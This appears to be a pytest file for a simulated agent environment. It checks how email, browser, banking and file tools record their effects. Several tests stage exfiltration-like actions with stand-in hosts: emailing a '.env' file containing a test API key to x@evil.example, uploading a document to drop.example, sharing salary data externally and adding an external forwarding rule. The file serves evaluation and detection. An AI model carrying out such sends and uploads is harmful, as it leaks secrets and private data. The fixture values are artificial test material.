"""Email, browser, banking and files surfaces: tools, receipts and what their effects record."""

from __future__ import annotations

import orjson


def call(env, tool, **args):
    return env.gateway.call(tool, args, step=2)


def last(env):
    return list(env.receipts)[-1]


# -- email ------------------------------------------------------------------------------------
def test_list_read_search(env):
    listing = orjson.loads(call(env, "list_emails").observation)
    assert [m["id"] for m in listing["emails"]] == ["m-2", "m-1"]
    assert orjson.loads(call(env, "read_email", email_id="m-1").observation)["attachments"][0]["name"] == "q3.csv"
    hits = orjson.loads(call(env, "search_emails", query="sign-in").observation)["results"]
    assert [h["id"] for h in hits] == ["m-2"]


def test_send_email_resolves_recipients_attachments_and_payload(env):
    outcome = call(
        env,
        "send_email",
        to=["Pat@Partner.example"],
        cc=["ops@acme.example"],
        bcc=["x@evil.example"],
        subject="Numbers",
        body="see attached",
        attachments=[".env", "d-1"],
    )
    assert outcome.ok
    fx = last(env).effect
    assert fx["recipients"] == ["ops@acme.example", "pat@partner.example", "x@evil.example"]
    assert fx["external_recipients"] == ["pat@partner.example", "x@evil.example"]
    assert [a["source"] for a in fx["attachments"]] == ["workspace:.env", "drive:d-1"]
    assert "sk-test-123" in fx["payload"] and "Engineer III" in fx["payload"]
    assert env.snapshot()["email"]["sent"]["new-sent-1"]["subject"] == "Numbers"


def test_bad_address_is_a_failed_receipt_not_an_effect(env):
    outcome = call(env, "send_email", to=["not-an-address"], subject="s", body="b")
    assert not outcome.ok and last(env).outcome == "failed" and not last(env).is_effect
    assert env.snapshot()["email"]["sent"] == {}


def test_reply_forward_delete_rule(env):
    assert call(env, "reply_email", email_id="m-1", body="Looks fine").ok
    assert last(env).effect["recipients"] == ["boss@acme.example"]
    assert call(env, "forward_email", email_id="m-1", to=["a@out.example"]).ok
    assert "north,100" in last(env).effect["payload"]
    assert call(env, "delete_email", email_id="m-2").ok
    snap = env.snapshot()["email"]
    assert "m-2" in snap["trash"] and "m-2" not in snap["inbox"]
    assert call(env, "create_forwarding_rule", forward_to="me@gmail.example", match_subject="invoice").ok
    assert last(env).effect["external"] is True


# -- browser ----------------------------------------------------------------------------------
def test_open_search_and_404(env):
    page = orjson.loads(call(env, "open_url", url="https://portal.acme.example/login").observation)
    assert page["status"] == 200 and page["forms"][0]["id"] == "login"
    missing = orjson.loads(call(env, "open_url", url="https://nowhere.example/x").observation)
    assert missing["status"] == 404
    results = orjson.loads(call(env, "search_web", query="markets news").observation)["results"]
    assert results[0]["url"] == "https://news.example/today"


def test_submit_form_records_destination_and_every_field(env):
    assert call(
        env, "submit_form", url="https://portal.acme.example/session", fields={"user": "dana", "password": "hunter2"}
    ).ok
    fx = last(env).effect
    assert fx["host"] == "portal.acme.example" and fx["fields"] == {"user": "dana", "password": "hunter2"}
    assert not call(env, "submit_form", url="https://news.example/today", fields={"a": "b"}).ok


def test_download_and_post(env):
    assert call(env, "download", url="https://cdn.tools.example/setup.sh", save_as="tools/setup.sh").ok
    assert (env.workspace_dir / "tools/setup.sh").read_text().startswith("#!/bin/sh")
    assert last(env).effect["host"] == "cdn.tools.example"
    assert not call(env, "download", url="https://cdn.tools.example/other.sh", save_as="o.sh").ok
    assert call(env, "post_content", site="https://forum.example", content="hello world").ok
    assert last(env).effect["visibility"] == "public"


# -- banking ----------------------------------------------------------------------------------
def test_transfer_moves_money_and_records_it(env):
    assert call(env, "send_transfer", to_account="US11 2222", amount=400, memo="March").ok
    assert last(env).effect["payee_name"] == "Landlord"
    assert orjson.loads(call(env, "get_balance").observation)["balance"] == 4600


def test_approval_limit_needs_a_valid_code(env):
    denied = call(env, "send_transfer", to_account="US11 2222", amount=1500)
    assert not denied.ok and last(env).outcome == "denied"
    assert not call(env, "send_transfer", to_account="US11 2222", amount=1500, approval_code="0000").ok
    assert call(env, "send_transfer", to_account="US11 2222", amount=1500, approval_code="7741").ok
    assert last(env).effect["used_approval_code"] is True


def test_insufficient_funds_fails(env):
    assert not call(env, "send_transfer", to_account="US11 2222", amount=999999, approval_code="7741").ok
    assert last(env).outcome == "failed"


def test_payees_and_scheduled_transfers(env):
    assert call(env, "add_payee", name="New Vendor", account="DE89 3704").ok
    assert not call(env, "add_payee", name="Dup", account="DE89 3704").ok
    assert call(env, "update_scheduled_transfer", transfer_id="s-1", to_account="DE89 3704").ok
    assert last(env).effect["before"] == {"to_account": "US11 2222"}
    assert call(env, "schedule_transfer", to_account="US11 2222", amount=50, execute_on="2026-04-01").ok
    assert call(env, "cancel_scheduled_transfer", transfer_id="s-1").ok
    assert not call(env, "cancel_scheduled_transfer", transfer_id="s-1").ok
    snap = env.snapshot()["banking"]
    assert snap["scheduled"]["s-1"]["status"] == "cancelled" and "new-sched-1" in snap["scheduled"]


# -- files ------------------------------------------------------------------------------------
def test_search_documents_ranks_by_relevance(env):
    results = orjson.loads(call(env, "search_documents", query="expense approval policy").observation)["results"]
    assert results[0]["id"] == "kb-1"
    only_kb = orjson.loads(call(env, "search_documents", query="salary", source="kb").observation)["results"]
    assert only_kb == []


def test_share_visibility_upload_update_delete(env):
    assert call(env, "share_document", doc_id="d-1", with_accounts=["hr@acme.example", "rec@hunters.example"]).ok
    assert last(env).effect["external_accounts"] == ["rec@hunters.example"]
    assert call(env, "set_visibility", doc_id="d-1", visibility="public").ok
    assert last(env).effect["before"] == "private"
    assert call(env, "upload_external", doc_id="d-1", destination_url="https://drop.example/u").ok
    assert last(env).effect["host"] == "drop.example"
    assert call(env, "update_document", doc_id="kb-1", content=" Updated.", mode="append").ok
    assert call(env, "delete_document", doc_id="d-1").ok
    assert not call(env, "read_document", doc_id="d-1").ok
    docs = env.snapshot()["files"]["documents"]
    assert "d-1" not in docs and docs["kb-1"]["content"].endswith("Updated.")
